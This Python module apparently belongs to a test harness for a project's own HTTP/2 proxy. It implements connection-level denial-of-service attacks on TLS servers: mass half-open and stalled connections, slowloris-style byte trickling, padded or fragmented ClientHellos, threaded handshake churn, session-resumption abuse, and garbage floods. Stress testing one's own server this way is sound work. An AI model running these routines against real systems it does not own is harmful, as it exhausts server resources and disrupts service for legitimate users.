"""The attacks on the way to a connection: TCP connections, what is no TLS, handshakes begun, done and done again."""

import select
import socket
import ssl
import threading
import time
from collections.abc import Callable, Sequence

from proxy.http2 import frames

from .attack_wire import Attack, Link, close_quietly, hold, opening

_MANY = 15_000
_HALF_OPEN = 2000
_TRICKLERS = 200
_THREADS = 8
_LARGE_HELLO = 16_000
_GARBAGE = b"\x13\x37" * 100


# -- connections that are kept


def half_open(attack: Attack) -> None:
    hello = client_hello(attack)
    _keep_plain(attack, _HALF_OPEN, hello[: len(hello) // 2])


def stalled(attack: Attack) -> None:
    _keep_plain(attack, _HALF_OPEN, client_hello(attack))


def large_hello(attack: Attack) -> None:
    """All but its last byte."""
    _keep_plain(attack, _HALF_OPEN, padded(client_hello(attack), _LARGE_HELLO)[:-1])


def connections(attack: Attack) -> None:
    _keep_plain(attack, _MANY, b"")


def sessions(attack: Attack) -> None:
    def opened() -> Link | None:
        link = attack.connect(opening())
        if link is not None:
            attack.sent += 1
        return link

    hold(attack, _MANY, opened, lambda links: None, 0.5)


def _keep_plain(attack: Attack, count: int, start: bytes) -> None:
    """Keep `count` TCP connections open that have sent `start`; those that are closed are opened again."""
    kept: dict[int, socket.socket] = {}
    poll = select.poll()
    looked = time.monotonic()
    while attack.alive():
        if len(kept) < count and (sock := attack.plain()) is not None:
            sock.setblocking(False)
            try:
                sock.send(start)
            except OSError:
                pass  # closed already: the poll below says so
            kept[sock.fileno()] = sock
            poll.register(sock, select.POLLIN)
            attack.sent += 1
        if len(kept) == count or time.monotonic() - looked > 0.1:
            looked = time.monotonic()
            for number, _ in poll.poll(100 if len(kept) == count else 0):
                if _is_over(kept[number]):
                    attack.endings["closed"] += 1
                    poll.unregister(number)
                    kept.pop(number).close()
    attack.endings["still open"] += len(kept)
    close_quietly(kept.values())


def _is_over(sock: socket.socket) -> bool:
    """Take what has come; whether the target has closed the connection."""
    try:
        return not sock.recv(65_536)
    except BlockingIOError:
        return False
    except OSError:
        return True


# -- piece by piece


def trickle_hello(attack: Attack) -> None:
    _trickle(attack, client_hello(attack))


def shattered_hello(attack: Attack) -> None:
    """A record for each byte: the server's TLS is asked to go on at each."""
    hello = client_hello(attack)
    _trickle(attack, b"".join(hello[:3] + b"\x00\x01" + hello[at : at + 1] for at in range(5, len(hello))), 6)


def _trickle(attack: Attack, data: bytes, step: int = 1) -> None:
    kept: dict[socket.socket, int] = {}
    while attack.alive():
        due = time.monotonic() + 0.02
        if len(kept) < _TRICKLERS and (sock := attack.plain()) is not None:
            sock.setblocking(False)
            kept[sock] = 0
        for sock, at in list(kept.items()):
            try:
                attack.sent += sock.send(data[at : at + step]) // step if at < len(data) else 0
                kept[sock] = at + step
                over = _is_over(sock)
            except OSError:
                over = True
            if over:
                attack.endings["closed"] += 1
                del kept[sock]
                sock.close()
        if len(kept) == _TRICKLERS:
            attack.sleep(due - time.monotonic())
    attack.endings["still open"] += len(kept)
    close_quietly(kept)


# -- connections that come and go


def churn(attack: Attack) -> None:
    _in_threads(lambda: _handshakes(attack, lambda: None))


def churn_spread(attack: Attack) -> None:
    attack.spread = True
    churn(attack)


def resumption(attack: Attack) -> None:
    """With the ticket of a first connection; most servers let it be used any number of times."""
    link = attack.connect(opening())
    while link is not None and link.sock.session is None and link.wait():
        pass
    ticket = None if link is None else link.sock.session
    if link is not None:
        link.close()
    _in_threads(lambda: _handshakes(attack, lambda: ticket))


def _handshakes(attack: Attack, ticket: Callable[[], ssl.SSLSession | None]) -> None:
    while attack.alive():
        link = attack.connect(opening(), session=ticket())
        if link is not None:
            attack.sent += 1
            link.drain()
            again = ", resumed" if link.sock.session_reused else ""
            link.sock.close()
            attack.endings[f"closed by the attacker{again}"] += 1


def hello_and_gone(attack: Attack) -> None:
    hello = client_hello(attack)
    _in_threads(lambda: _come_and_go(attack, hello, False))


def garbage(attack: Attack) -> None:
    _in_threads(lambda: _come_and_go(attack, _GARBAGE, True))


def plaintext(attack: Attack) -> None:
    start = frames.PREFACE + frames.settings({})
    _in_threads(lambda: _come_and_go(attack, start, True))


def _come_and_go(attack: Attack, start: bytes, wait: bool) -> None:
    while attack.alive():
        sock = attack.plain()
        if sock is None:
            continue
        try:
            sock.sendall(start)
            attack.sent += 1
            if wait:
                sock.recv(4096)
        except OSError:
            pass
        sock.close()
        attack.endings["closed by the attacker"] += 1


def _in_threads(work: Callable[[], None]) -> None:
    """OpenSSL's part of a handshake runs without the interpreter's lock, so threads do pay."""
    threads: Sequence[threading.Thread] = [threading.Thread(target=work) for _ in range(_THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


# -- bytes


def client_hello(attack: Attack) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = attack.context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def padded(hello: bytes, size: int) -> bytes:
    """A ClientHello's record (RFC 8446 section 4.1.2) made `size` bytes long by an extension that no server knows."""
    at = 5 + 4 + 2 + 32  # the headers of record and message, version, random
    at += 1 + hello[at]  # session id
    at += 2 + int.from_bytes(hello[at : at + 2], "big")  # cipher suites
    at += 1 + hello[at]  # compression
    padding = b"\x1a\x1a" + (size - len(hello) - 4).to_bytes(2, "big") + bytes(size - len(hello) - 4)
    extensions = hello[at + 2 :] + padding
    body = hello[9:at] + len(extensions).to_bytes(2, "big") + extensions
    return hello[:3] + (len(body) + 4).to_bytes(2, "big") + b"\x01" + len(body).to_bytes(3, "big") + body
